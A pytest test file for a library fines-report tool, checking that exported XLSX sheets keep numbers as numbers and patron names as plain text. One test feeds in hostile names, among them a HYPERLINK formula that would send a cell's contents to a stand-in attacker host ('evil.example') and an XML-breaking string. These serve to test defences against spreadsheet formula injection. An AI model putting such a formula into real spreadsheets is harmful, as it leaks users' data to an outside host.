"""The spreadsheet, read back by another library: numbers are numbers, and texts are texts and nothing more."""

from __future__ import annotations

import io
import re
import sys
import tempfile
import zipfile
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support import rendered
from support import report_samples as samples

from evergreen_groups.errors import ConfigurationError
from evergreen_groups.groups import Group
from evergreen_groups.message import own_pip
from evergreen_groups.render import StaffClient, printable
from evergreen_groups.render import sheets as long_sheets
from evergreen_groups.render.sheets import cell_text
from evergreen_groups.report import Report

pytestmark = pytest.mark.long


def xlsx(report: Report, **options: Any) -> bytes:
    return rendered.written_bytes(report, "xlsx", **options)


def workbook(report: Report, *, details: bool = True) -> Any:
    book = rendered.workbook(report, details=details)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                # Programs for people read it so in any text; this library does it in shared ones alone.
                if isinstance(cell.value, str) and "_x005F_" in cell.value:
                    cell.value = cell.value.replace("_x005F_", "_")
                    cell.data_type = "s"
    return book


def rows(worksheet: Any) -> list[dict[str, Any]]:
    headings, *others = worksheet.iter_rows(values_only=True)
    return [dict(zip(headings, row, strict=True)) for row in others]


def column(worksheet: Any, heading: str) -> list[Any]:
    [place] = [cell.column for cell in worksheet[1] if cell.value == heading]
    return [row[place - 1] for row in worksheet.iter_rows(min_row=2)]


def test_names_lead_into_the_staff_client() -> None:
    found = rendered.workbook(samples.sample_report(), client=StaffClient("eg", "https://ils.example"))
    leads = {cell.value: cell.hyperlink.target for row in found["Groups"]["B2:B6"] for cell in row}
    group = next(group for group in samples.sample_report().groups if group.number == 1187)
    name = cell_text(group.lead.name)
    assert leads[name] == f"https://ils.example/evergreen-groups/patrons/{group.lead.id}/group?client=eg"
    members = {cell.value: cell.hyperlink.target for row in found["Members"]["B2:B4"] for cell in row}
    assert members[name] == f"https://ils.example/eg/staff/circ/patron/{group.lead.id}/checkout"
    assert all(
        cell.hyperlink is None for row in workbook(samples.sample_report())["Groups"].iter_rows() for cell in row
    )


RED = "FFA8291C"


def is_marked(cell: Any) -> bool:
    return cell.fill.fill_type == "solid" and bool(cell.font.bold)


def test_groups() -> None:
    groups = rows(workbook(samples.sample_report())["Groups"])
    assert groups[0] == {
        "Group": 1187,
        "Name": "Castellanos-Whitfield, Maximiliana Josephine",
        "Barcode": "29999000000412",
        "Library": "BR1",
        "Members": 4,
        "Members who owe": 2,
        "Group Fines": 1289.35,
        "Highest own fines": 1204.5,
        "Over the limit": 2,
        "Hidden members": 0,
        "Fines of hidden members": 0,
    }
    assert [group["Group"] for group in groups] == [1187, 902, 2240, 85, 31007]
    assert [group["Hidden members"] for group in groups] == [0, 0, 2, 0, 1]
    amounts = column(workbook(samples.sample_report())["Groups"], "Group Fines")
    assert [is_marked(cell) for cell in amounts] == [*[False] * 4, True]
    assert [group["Fines of hidden members"] for group in groups] == [0, 0, 6.4, 0, "unknown"]
    assert [group["Group Fines"] for group in groups][2:] == [28.39, 25.25, "unknown"]
    assert [group["Over the limit"] for group in groups][2:] == ["at least 2", 2, "at least 1"]


def test_members() -> None:
    report = samples.sample_report()
    found = rows(workbook(report)["Members"])
    members = [(group, one) for group in report.groups for one in group.members]
    assert [(row["Group"], row["Name"], row["Library"]) for row in found] == [
        (group.number, one.name, one.library) for group, one in members
    ]
    assert [row["Barcode"] for row in found] == [one.barcode or "no card" for _group, one in members]
    assert [f"{row['Own fines']:.2f}" for row in found] == [f"{one.own_fines:.2f}" for _group, one in members]
    assert [row["Over the limit"] for row in found] == ["yes" if one.over_limit else "no" for _group, one in members]
    assert found[3]["Own fines"] == -3.25


@pytest.mark.parametrize(
    "report", [samples.report_of(samples.FAMILIES[:2]), samples.full_report(20)], ids=["sample", "full"]
)
def test_a_column_of_amounts_or_counts_adds_up(report: Report) -> None:
    book = workbook(report)
    groups, members = rows(book["Groups"]), rows(book["Members"])
    totals = report.totals
    assert round(sum(row["Group Fines"] for row in groups), 2) == float(totals.group_fines)
    assert sum(row["Members"] for row in groups) == totals.member_count
    assert sum(row["Over the limit"] for row in groups) == totals.over_limit_count.value
    own = sum(one.own_fines for group in report.groups for one in group.members)
    assert round(sum(row["Own fines"] for row in members), 2) == float(own)
    amounts = {heading for row in members for heading, value in row.items() if isinstance(value, float)}
    assert amounts == {"Own fines"}, "nothing of a group is repeated for its members"


def test_on_paper_each_sheet_has_its_title_heading_and_number() -> None:
    book = workbook(replace(samples.changed_report(), name="old & new"))
    assert book.sheetnames == ["Summary", "Groups", "Members", "No longer listed"]
    for sheet in book.worksheets[1:]:
        assert sheet.oddHeader.left.text.startswith("Groups with high combined fines (old && new), 14 Aug 2026")
        assert sheet.print_title_rows == "$1:$1"
        assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight) == ("landscape", 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert "Page &P of &N" in sheet.oddFooter.right.text


def test_members_with_different_limits_have_theirs_beside_them() -> None:
    book = workbook(samples.report_with_limits())
    members = book["Members"]
    assert [cell.value for cell in column(members, "Limit")] == ["more than $5.00", "$2.00 or more", "none"]
    assert members.auto_filter.ref == "A1:H4"
    assert "which depends on profile and home library" in book["Summary"]["B2"].value


def test_amounts_are_numbers_with_the_format_of_money() -> None:
    book = workbook(samples.sample_report())
    for name, heading in (("Groups", "Group Fines"), ("Members", "Own fines")):
        cells = column(book[name], heading)
        assert {cell.number_format for cell in cells} == {'"$"#,##0.00;-"$"#,##0.00'}
        assert {cell.value for cell in cells if cell.data_type != "n"} <= {"unknown"}
    assert {cell.number_format for cell in column(book["Groups"], "Group")} == {"0"}


def test_members_over_the_limit_are_marked() -> None:
    members = workbook(samples.sample_report())["Members"]
    over = [cell.value == "yes" for cell in column(members, "Over the limit")]
    assert any(over)
    assert not all(over)
    for heading in ("Over the limit", "Own fines"):
        assert [is_marked(cell) for cell in column(members, heading)] == over
    assert not any(is_marked(cell) for cell in column(members, "Name"))


def test_red_is_for_a_block_of_ones_own() -> None:
    sheets = workbook(samples.blocked_report())
    members = sheets["Members"]
    names = [cell.value for cell in column(members, "Name")]
    cells = zip(names, column(members, "Blocked in Evergreen"), strict=True)
    blocked = {name: cell.value for name, cell in cells if cell.value != "no"}
    assert blocked == {
        "Castellanos-Whitfield, Maximiliana Josephine": "PATRON_EXCEEDS_FINES at CONS, since 1 Aug 2026",
        "Whitfield, Rosa": "PATRON_EXCEEDS_FINES at CONS, by staff",
    }
    colors = [cell.font.color for row in members.iter_rows(min_row=2) for cell in row]
    red = [color for color in colors if color and color.rgb == RED]
    assert len(red) == 2
    differences = {cell.value for cell in column(members, "Limit and block differ")} - {None}
    assert differences == {
        "over the limit, not yet blocked in Evergreen",
        "blocked in Evergreen, own fines within the limit",
    }
    assert "Blocked in Evergreen" not in [cell.value for cell in workbook(samples.sample_report())["Members"][1]]


@pytest.mark.parametrize(("name", "last"), [("Groups", "K6"), ("Members", "G17")])
def test_headings_stay_visible_and_filter(name: str, last: str) -> None:
    worksheet = workbook(samples.sample_report())[name]
    assert worksheet.freeze_panes == "C2"
    assert worksheet.auto_filter.ref == f"A1:{last}"


def test_columns_are_as_wide_as_their_texts() -> None:
    members = workbook(samples.sample_report())["Members"]
    widths = {cell.value: members.column_dimensions[cell.column_letter].width for cell in members[1]}
    assert widths["Name"] > 40
    assert widths["Barcode"] >= 14
    assert 9 <= widths["Library"] < 15


def test_numbers_are_measured_on_every_row(monkeypatch: pytest.MonkeyPatch) -> None:
    """A number that is too wide for its column isn't shown. Texts are measured in the first rows only."""

    def widths() -> dict[str, float]:
        sheet = workbook(report)["Groups"]
        return {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}

    groups = samples.large_report(30).groups
    rich = Group(99_999_999_999, (replace(groups[0].members[0], own_fines=Decimal("123456789.00")),))
    report = samples.report_of([*groups, rich])
    before = widths()
    monkeypatch.setattr(long_sheets, "_ROWS_AT_ONCE", 4)
    assert {name: width for name, width in widths().items() if name != "Name"} == {
        name: width for name, width in before.items() if name != "Name"
    }
    assert before["Group Fines"] >= len("+123,456,789.00$")
    assert before["Group"] >= len("99,999,999,999")


def test_summary() -> None:
    report = samples.sample_report()
    summary = workbook(report)["Summary"]
    facts = {row[0]: row[1] for row in summary.iter_rows(values_only=True) if row[0]}
    assert (facts["Groups"], facts["Members"], facts["Group Fines"]) == (5, 19, "unknown")
    complete = workbook(samples.report_of(samples.FAMILIES[:2]))["Summary"]
    assert {row[0]: row[1] for row in complete.iter_rows(values_only=True)}["Group Fines"] == 1318.35
    assert facts["For information only"] == "Only a member's own fines count toward the $5.00 limit."
    assert facts["Evergreen server"] == report.gateway
    assert [row[1] for row in summary.iter_rows(values_only=True) if row[0] == "Please note"] == list(report.notes)


def test_changes() -> None:
    book = workbook(samples.changed_report())
    groups = {row["Group"]: row for row in rows(book["Groups"])}
    assert [groups[group]["Change"] for group in (1187, 902, 2240, 85)] == [
        "owes more",
        "new",
        "owes less",
        "unchanged",
    ]
    assert (groups[1187]["Change in Group Fines"], groups[1187]["Previous Group Fines"]) == (85.35, 1204)
    assert (groups[902]["Change in Group Fines"], groups[902]["Previous Group Fines"]) == (None, None)
    assert "formerly group 11" in groups[2240]["Remarks"]
    assert {cell.number_format for cell in column(book["Groups"], "Change in Group Fines")} == {
        '+"$"#,##0.00;-"$"#,##0.00;"$"#,##0.00'
    }
    assert [(row["Group"], row["Owed before"]) for row in rows(book["No longer listed"])] == [
        (611, 1260.1),
        (17, "unknown"),  # hidden members owed an unknown amount
    ]
    facts = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row[0]}
    assert (facts["Groups: new"], facts["Groups: owes more"], facts["Groups: no longer listed"]) == (1, 1, 2)
    apart = ("Group Fines: new", "Change in Group Fines: no longer listed")
    assert tuple(facts[name] for name in apart) == (29, "unknown")


def test_without_changes_and_details_there_are_no_columns_and_sheets_for_them() -> None:
    book = workbook(samples.sample_report())
    assert book.sheetnames == ["Summary", "Groups", "Members"]
    assert "Change" not in rows(book["Groups"])[0]
    assert workbook(samples.sample_report(), details=False).sheetnames == ["Summary", "Groups"]


def test_a_report_that_found_nothing() -> None:
    book = workbook(samples.empty_report())
    assert rows(book["Groups"]) == rows(book["Members"]) == []
    assert book["Groups"].auto_filter.ref == "A1:K1"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "https://evil.example/",
        "mailto:a@example.org",
        "internal:Sheet2!A1",
        "0012",
        "1e5",
        "+15550100",
        "10/11",
        "TRUE",
        "<r><t>rich</t></r>",
        "<r></si><evil/></r>",
        "_x0041_",
        "  blanks  ",
        "=" * 40_000,
    ],
)
def test_a_text_stays_what_it_is(name: str) -> None:
    book = workbook(samples.report_of([Group(1, (samples.member(1, name, "30.00", barcode="0012"),))]))
    [lead] = column(book["Groups"], "Name")
    assert (lead.data_type, lead.hyperlink) == ("s", None)
    assert lead.value.removesuffix(" ") == name[:32_767].removesuffix(" ")
    assert [cell.value for cell in column(book["Members"], "Barcode")] == ["0012"]


@settings(deadline=None, max_examples=40)
@given(samples.hostile_reports(), st.booleans())
def test_hostile_names_read_back_and_are_texts(report: Report, details: bool) -> None:
    content = xlsx(report, details=details)
    book = openpyxl.load_workbook(io.BytesIO(content))
    names = [cell.value or "" for cell in column(book["Groups"], "Name")]
    assert names == [printable(group.lead.name) for group in report.groups]
    if details:
        members = [one for group in report.groups for one in group.members]
        assert [cell.value or "" for cell in column(book["Members"], "Name")] == [
            printable(one.name) for one in members
        ]
    if report.contacts is not None:
        for heading, way in {"Daytime phone": "day_phone", "Evening phone": "evening_phone"}.items():
            cells = [cell.value for cell in column(book["Groups"], heading)]
            assert cells == [printable(getattr(report.contacts[group.number], way)) or None for group in report.groups]
    parts = zipfile.ZipFile(io.BytesIO(content))
    sheets = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
    assert not any(re.search('<f>|<hyperlink|t="str"', text) for text in sheets)
    assert not [name for name in parts.namelist() if "externalLink" in name or "worksheets/_rels" in name]


def test_the_same_report_gives_the_same_file() -> None:
    assert xlsx(samples.sample_report()) == xlsx(samples.sample_report())


def test_nothing_of_it_stays_in_temporary_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    modes: list[int] = []

    def seen(archive: zipfile.ZipFile, *arguments: Any) -> None:
        modes.append(next(tmp_path.iterdir()).stat().st_mode & 0o777)
        write(archive, *arguments)

    write = zipfile.ZipFile.write
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(zipfile.ZipFile, "write", seen)
    assert workbook(samples.sample_report()).sheetnames == ["Summary", "Groups", "Members"]
    assert set(modes) == {0o700}
    assert not [*tmp_path.iterdir()]


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # xlsxwriter's temporary files
def test_broken_off_it_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A run may be ended by its deadline."""

    def broken_off(*_arguments: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(zipfile.ZipFile, "write", broken_off)
    with pytest.raises(KeyboardInterrupt):
        xlsx(samples.sample_report())
    assert not [*tmp_path.iterdir()]


def test_a_report_that_is_too_long_for_a_sheet_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(long_sheets, "MOST_ROWS", 16)
    with pytest.raises(ConfigurationError, match=r"more rows than a spreadsheet can hold \(16\); choose CSV"):
        xlsx(samples.sample_report())
    monkeypatch.setattr(long_sheets, "MOST_ROWS", 17)
    assert len(rows(workbook(samples.sample_report())["Members"])) == 16


def test_without_the_library(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(ConfigurationError) as caught:
        xlsx(samples.sample_report())
    assert str(caught.value).count("\n") == 0
    assert f"{own_pip()} install xlsxwriter" in str(caught.value)


def test_a_large_report() -> None:
    report = samples.large_report(1000)
    content = xlsx(report)
    assert len(content) < 400_000
    members = rows(openpyxl.load_workbook(io.BytesIO(content), read_only=True)["Members"])
    assert len(members) == sum(len(group.members) for group in report.groups)
